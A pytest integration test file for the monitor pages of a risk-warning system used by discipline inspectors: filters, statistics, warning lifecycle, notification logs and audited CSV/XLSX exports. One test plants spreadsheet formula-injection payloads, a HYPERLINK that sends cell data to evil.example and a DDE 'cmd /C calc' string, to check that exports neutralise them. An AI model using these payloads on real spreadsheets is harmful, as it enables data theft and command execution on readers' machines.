"""The monitor pages of discipline team leaders and inspectors: filtered warnings with
time presets, a warning's factors and lifecycle, statistics by period, the notification
log, CSV/XLSX exports with their audit record, and the live signal to monitor pages."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from datetime import UTC, date, datetime, timedelta
from typing import Any
from zoneinfo import ZoneInfo

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from riskctl.alerts.outbox import Notifier
from riskctl.core.audit import AuditRecord
from riskctl.core.calendar_store import local_date
from riskctl.core.clock import utcnow
from riskctl.core.errors import ValidationFailed
from riskctl.core.periods import period
from riskctl.extensions import socketio
from riskctl.org.models import Unit
from riskctl.risk import services as risk
from riskctl.risk.models import EventStatus, Level, RiskEvent
from tests.integration.test_pages import csrf_from, sign_in


def warning(
    session: Any, person: Any, level: Level, *, unit: str = "czj", who: str = "czj.wangfang",
    rule: str = "item_overdue", created: datetime | None = None, subject: str = "测试预警",
    notify: bool = False,
) -> RiskEvent:  # fmt: skip
    created = created or utcnow()
    event = RiskEvent(
        identity=f"monitor:{unit}:{who}:{level}:{subject}:{created.timestamp()}", rule=rule,
        unit_id=session.scalar(sa.select(Unit.id).where(Unit.code == unit)), node="request",
        person_id=person(who).id, post="purchaser", severity=40, score=72.5, level=level,
        factors={"severity": 40, "process": {"risk": 4, "factor": 1.25},
                 "node": {"risk": 5, "factor": 1.45}},
        evidence={"late_working_days": 6, "limit": "3wd"}, status=EventStatus.OPEN,
        policy_version=0, level_since=created, created_at=created, updated_at=created,
        subject=subject,
    )  # fmt: skip
    session.add(event)
    session.flush()
    if notify:
        notifier = Notifier(session, risk.current_policy(session), created)
        notifier.raised(event)
        notifier.flush()
    return event


@pytest.fixture
def inspector(client: Any) -> Any:
    sign_in(client, "jw.hexiaoping")  # inspector over all five units
    return client


def test_periods_name_the_local_days_of_each_preset():
    wednesday = date(2026, 11, 25)
    assert period("today", wednesday).first == wednesday
    assert period("week", wednesday).first == date(2026, 11, 23)  # Monday
    assert period("month", wednesday).first == date(2026, 11, 1)
    assert period("quarter", wednesday).first == date(2026, 10, 1)
    assert period("year", wednesday).first == date(2026, 1, 1)
    custom = period("custom", wednesday, "2026-03-01", "2026-03-31")
    assert (custom.first, custom.last, custom.days) == (date(2026, 3, 1), date(2026, 3, 31), 31)
    start, end = custom.bounds(ZoneInfo("Asia/Shanghai"))
    assert start == datetime(2026, 2, 28, 16, tzinfo=UTC) and end - start == timedelta(days=31)
    with pytest.raises(ValidationFailed) as bad:
        period("custom", wednesday, "2026-03-31", "2026-03-01")
    assert bad.value.details == [{"path": "to", "message": "must not be before from"}]
    with pytest.raises(ValidationFailed):
        period("fortnight", wednesday)


def test_the_monitor_lists_warnings_with_filters(inspector, session, person):
    red = warning(session, person, Level.RED, subject="红色测试")
    yellow = warning(session, person, Level.YELLOW, subject="黄色测试")
    session.commit()
    html = inspector.get("/monitor/warnings?period=today").get_data(as_text=True)
    assert f'data-event="{red.id}"' in html and f'data-event="{yellow.id}"' in html
    assert "红色" in html and "黄色" in html and "今日" in html
    only_red = inspector.get("/monitor/warnings?period=today&level=red").get_data(as_text=True)
    assert f'data-event="{red.id}"' in only_red and f'data-event="{yellow.id}"' not in only_red
    nmj = inspector.get("/monitor/warnings?period=today&unit=nmj").get_data(as_text=True)
    assert f'data-event="{red.id}"' not in nmj
    # The live list asks for its table alone.
    partial = inspector.get("/monitor/warnings?period=today&partial=1").get_data(as_text=True)
    assert partial.lstrip().startswith('<div id="warning-list"') and "<html" not in partial


def test_a_bad_filter_is_shown_beside_its_field(inspector):
    response = inspector.get("/monitor/warnings?level=purple&period=custom&from=2026-05-01&to=x")
    html = response.get_data(as_text=True)
    assert response.status_code == 422
    assert re.search(r'id="error-level">不是可选项之一<', html)
    assert re.search(r'id="error-to">应为日期，如 2026-11-24<', html)


def test_a_period_leaves_out_older_warnings(inspector, session, person):
    old = warning(session, person, Level.ORANGE, created=utcnow() - timedelta(days=400))
    session.commit()
    assert f'data-event="{old.id}"' not in inspector.get("/monitor/warnings?period=year").text
    custom = (old.created_at - timedelta(days=1)).date().isoformat()
    url = f"/monitor/warnings?period=custom&from={custom}&to={local_date().isoformat()}"
    assert f'data-event="{old.id}"' in inspector.get(url).text


def test_staff_cannot_open_the_monitor(client):
    sign_in(client, "czj.wangfang")
    assert client.get("/monitor/warnings").status_code == 403
    assert client.get("/monitor/statistics").status_code == 403


def test_a_warning_page_explains_the_score_and_its_lifecycle(client, session, person):
    event = warning(session, person, Level.ORANGE, notify=True)
    session.commit()
    sign_in(client, "czj.zhoujie")  # the unit's discipline team leader
    html = client.get(f"/monitor/warnings/{event.id}").get_data(as_text=True)
    # The evidence in words (issue 18): its key as a reader names it, never the key.
    for text in ("分值构成", "× 1.25", "× 1.45", "72.50", "逾期工作日", "签收", "办结"):
        assert text in html, text
    assert "late_working_days" not in html
    token = csrf_from(html)
    ack = client.post(f"/monitor/warnings/{event.id}/acknowledge", data={"csrf_token": token})
    assert ack.status_code == 302
    no_disposition = client.post(
        f"/monitor/warnings/{event.id}/resolve", data={"csrf_token": token, "disposition": ""}
    )
    assert no_disposition.status_code == 302
    assert "未保存" in client.get(f"/monitor/warnings/{event.id}").text
    client.post(
        f"/monitor/warnings/{event.id}/resolve",
        data={"csrf_token": token, "disposition": "reminder_talk", "note": "已提醒谈话"},
    )
    session.refresh(event)
    assert event.status is EventStatus.RESOLVED and event.closing_note == "已提醒谈话"
    assert "提醒谈话" in client.get(f"/monitor/warnings/{event.id}").text


def test_a_leader_cannot_close_a_red_warning_from_the_page(client, session, person):
    event = warning(session, person, Level.RED)
    session.commit()
    sign_in(client, "czj.zhoujie")
    html = client.get(f"/monitor/warnings/{event.id}").text
    assert f'action="/monitor/warnings/{event.id}/resolve"' not in html
    assert "红色预警由区纪委监察员办结" in html
    token = csrf_from(html)
    client.post(f"/monitor/warnings/{event.id}/dismiss",
                data={"csrf_token": token, "reason": "误报"})  # fmt: skip
    session.refresh(event)
    assert event.status is EventStatus.OPEN


def test_statistics_count_by_unit_level_and_day(inspector, session, person):
    warning(session, person, Level.RED)
    warning(session, person, Level.YELLOW, unit="nmj", who="nmj.gaopeng")
    warning(session, person, Level.YELLOW, created=utcnow() - timedelta(days=400))
    session.commit()
    html = inspector.get("/monitor/statistics?period=today").get_data(as_text=True)
    data = json.loads(html.split('id="stats-data">', 1)[1].split("</script>", 1)[0])
    by_unit = {g["key"]: g for g in data["unit"]}
    assert by_unit["czj"]["red"] >= 1 and by_unit["nmj"]["yellow"] >= 1
    assert sum(g["count"] for g in data["day"]) == sum(g["count"] for g in data["level"])
    assert len(data["day"]) == 1  # today only
    assert "js/statistics.js" in html and "vendor/echarts.min.js" in html
    assert 'id="unit-table"' in html


def test_exports_are_files_and_are_audited(inspector, session, person):
    event = warning(session, person, Level.RED, subject="导出测试")
    session.commit()
    csv_file = inspector.get("/monitor/warnings/export.csv?period=today&level=red")
    assert csv_file.status_code == 200
    assert csv_file.headers["Content-Disposition"].startswith('attachment; filename="warnings-')
    text = csv_file.data.decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows[0][:3] == ["编号", "等级", "分值"]
    mine = next(r for r in rows[1:] if r[0] == str(event.id))
    assert mine[1] == "红色" and mine[9] == "导出测试"  # 事由, after 流程 and 人员
    assert {r[1] for r in rows[1:]} == {"红色"}
    xlsx = inspector.get("/monitor/warnings/export.xlsx?period=today&level=red")
    sheet = load_workbook(io.BytesIO(xlsx.data)).active
    assert sheet.cell(1, 1).value == "编号" and sheet.max_row == len(rows)
    records = session.scalars(
        sa.select(AuditRecord).where(AuditRecord.action == "export.warnings")
        .order_by(AuditRecord.id)
    ).all()  # fmt: skip
    assert [r.after["format"] for r in records[-2:]] == ["csv", "xlsx"]
    assert records[-1].after["filters"]["level"] == "red"
    assert records[-1].after["rows"] == len(rows) - 1
    assert records[-1].actor == "jw.hexiaoping"
    assert inspector.get("/monitor/warnings/export.pdf").status_code == 422


FORMULA = '=HYPERLINK("http://evil.example/?d="&D2&E2,"点击查看凭证")'


def test_exports_cannot_attack_their_readers(inspector, session, person):
    # What a staff member typed reaches the leader's spreadsheet: no cell may act, and a
    # control character must not break the file.
    event = warning(session, person, Level.RED, subject="@SUM(1+1)*cmd|' /C calc'!A0")
    event.explanation = FORMULA
    other = warning(session, person, Level.RED, subject="-2+3")
    other.explanation = "a\u0001b"
    session.commit()
    csv_file = inspector.get("/monitor/warnings/export.csv?period=today&level=red")
    assert csv_file.headers["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.reader(io.StringIO(csv_file.data.decode("utf-8").lstrip("\ufeff"))))
    mine = next(r for r in rows[1:] if r[0] == str(event.id))
    assert "'" + FORMULA in mine and "'@SUM(1+1)*cmd|' /C calc'!A0" in mine
    second = next(r for r in rows[1:] if r[0] == str(other.id))
    assert "'-2+3" in second and "a\ufffdb" in second
    xlsx = inspector.get("/monitor/warnings/export.xlsx?period=today&level=red")
    assert xlsx.status_code == 200
    with zipfile.ZipFile(io.BytesIO(xlsx.data)) as book:
        sheet_xml = book.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # not one formula cell
    cells = [c for row in load_workbook(io.BytesIO(xlsx.data)).active.iter_rows() for c in row]
    assert any(c.quotePrefix and c.value == FORMULA for c in cells)
    # The words, as text (read back parsed: openpyxl with lxml writes "\ufffd" as &#65533;)
    texts = [str(c.value) for c in cells if c.value is not None]
    assert any("HYPERLINK(" in t for t in texts) and any("a\ufffdb" in t for t in texts)


def test_the_notification_log_shows_sms_status(inspector, session, person):
    from riskctl.alerts import dispatch
    from riskctl.alerts.sms import ConsoleBackend

    warning(session, person, Level.RED, notify=True)
    dispatch.dispatch_sms(session, ConsoleBackend(), risk.current_policy(session))
    session.commit()
    html = inspector.get("/monitor/notifications?channel=sms").get_data(as_text=True)
    assert "短信" in html and "已发送" in html and "****" in html
    assert "次尝试" in html
    export = inspector.get("/monitor/notifications/export.csv?channel=sms")
    assert "已发送" in export.data.decode("utf-8")


def test_monitor_pages_are_told_when_a_warning_of_their_unit_is_raised(
    app, client, session, person
):
    sign_in(client, "czj.zhoujie")  # leader of 区财政局: sees its warnings, not 区农牧局's
    sio = socketio.test_client(app, namespace="/screen", flask_test_client=client)
    assert sio.is_connected("/screen")
    ours = warning(session, person, Level.YELLOW, notify=True)
    warning(session, person, Level.YELLOW, unit="nmj", who="nmj.gaopeng", notify=True)
    session.commit()
    signals = [m["args"][0] for m in sio.get_received("/screen") if m["name"] == "risk_event"]
    assert [(s["event_id"], s["kind"]) for s in signals] == [(ours.id, "raised")]
    sio.disconnect("/screen")
